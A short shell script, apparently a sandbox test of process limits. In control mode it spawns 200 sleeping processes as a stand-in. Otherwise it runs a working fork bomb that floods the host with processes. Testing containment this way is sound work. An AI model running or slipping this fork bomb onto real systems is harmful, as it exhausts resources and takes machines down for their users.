# The classic one-liner; outside a sandbox two hundred sleeping processes stand for it.
if [ -n "$ATTACK_CONTROL" ]; then
  for i in $(seq 200); do sleep 20 & done
  [ "$(jobs -pr | wc -l)" -ge 200 ] && echo "THROUGH: 200 processes from one shell"
  kill $(jobs -p)
  exit 0
fi
bomb() { bomb | bomb & }
bomb
sleep 1000
